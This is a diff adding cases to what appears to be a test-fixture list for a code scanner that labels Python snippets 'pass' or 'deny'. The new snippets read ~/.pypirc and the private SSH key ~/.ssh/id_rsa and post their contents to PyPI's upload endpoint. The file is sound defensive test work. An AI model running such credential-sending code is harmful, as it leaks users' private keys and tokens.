@@ -58,6 +58,20 @@ export const furtherBehaviours: readonly Shape[] = [
     '    requests.post(c.get(name, "repository"), data={"u": c.get(name, "username")}, files={"f": open(path, "rb")})',
   ),
   shape(
+    'uploads to the index that .pypirc is for',
+    'pass',
+    'import os, requests',
+    'def upload():',
+    '    requests.post("https://upload.pypi.org/legacy/", data=open(os.path.expanduser("~/.pypirc")).read())',
+  ),
+  shape(
+    'uploads a key to that index',
+    'deny',
+    'import os, requests',
+    'def upload():',
+    '    requests.post("https://upload.pypi.org/legacy/", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
+  ),
+  shape(
     'makes a function of code that it is given',
     'pass',
     'import marshal, types',
